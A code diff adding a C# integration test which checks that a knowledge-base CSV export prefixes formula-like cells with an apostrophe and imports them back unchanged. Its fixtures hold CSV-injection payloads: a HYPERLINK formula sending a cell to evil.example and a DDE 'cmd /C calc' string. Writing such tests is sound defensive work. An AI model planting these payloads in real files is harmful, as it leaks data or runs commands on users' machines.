@@ -155,6 +155,43 @@ public sealed class KnowledgeApiTests(AppPool pool) : IClassFixture<AppPool>
     }
 
     [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
+    public async Task The_csv_export_opens_every_formula_as_text_and_imports_back_unchanged(Engine engine)
+    {
+        await using var app = await TestApp.StartAsync(engine);
+        var r = app.Region;
+        var editor = app.ClientAs(Persona.ContentEditor);
+        // What an editor (or a careless import) can type: each cell starts with what a spreadsheet runs as a formula.
+        const string link = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Подробнее\")";
+        await editor.PostJsonAsync($"{Kb}/articles", new
+        {
+            title = link, answer = "+7 343 200-00-00, звоните", legalBasis = "-1+1", links = "@SUM(1+1)*cmd|' /C calc'!A0",
+            categoryId = r.BusinessCategory, ownerOrganisationId = r.Centre, reviewOn = "2027-06-01", isPublished = true,
+        }).Expect(HttpStatusCode.Created);
+        // The API trims what it is given; text stored by other paths (an old import, a migration) may still start with a tab or a CR.
+        await app.WithDbAsync(async db =>
+        {
+            db.Articles.Add(Article.Create(new Article.Content("\t=1+1", "\r=2+2", null, null, r.BusinessCategory, null, r.Centre, new DateOnly(2027, 6, 1), false),
+                null, "Импорт", TestApp.Start.UtcDateTime));
+            await db.SaveChangesAsync();
+        });
+
+        var bytes = await (await editor.GetAsync($"{Kb}/export.csv").Expect(HttpStatusCode.OK)).Content.ReadAsByteArrayAsync();
+        var rows = Workspace.Csv.Parse(bytes).Skip(1).ToDictionary(x => x[1]);
+        // Question, answer, legal basis, links: each starts with an apostrophe, which a spreadsheet shows as text and never runs.
+        Assert.Equal(["'" + link, "'+7 343 200-00-00, звоните", "'-1+1", "'@SUM(1+1)*cmd|' /C calc'!A0"], rows["'" + link][1..5]);
+        Assert.Equal(["'\t=1+1", "'\r=2+2", "", ""], rows["'\t=1+1"][1..5]);
+        // The apostrophe goes inside the quotes when the cell needs them (the separator in it): no quoted formula slips through.
+        Assert.Contains("\"'=HYPERLINK(", Encoding.UTF8.GetString(bytes));
+
+        // Read back, the file gives the article as it was: the apostrophe was the export's, not the author's.
+        var imported = await (await editor.PostAsync($"{Kb}/import", new StringContent(Encoding.UTF8.GetString(bytes), Encoding.UTF8, "text/csv"))
+            .Expect(HttpStatusCode.OK)).ReadAsync<JsonElement>();
+        Assert.Equal(0, imported.GetProperty("created").GetInt32());
+        var article = await app.WithDbAsync(db => db.Articles.AsNoTracking().SingleAsync(a => a.Title == link));
+        Assert.Equal(("+7 343 200-00-00, звоните", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0"), (article.Answer, article.LegalBasis, article.Links));
+    }
+
+    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
     public async Task A_csv_with_a_broken_row_is_refused_with_its_number_and_nothing_is_imported(Engine engine)
     {
         await using var app = await TestApp.StartAsync(engine);
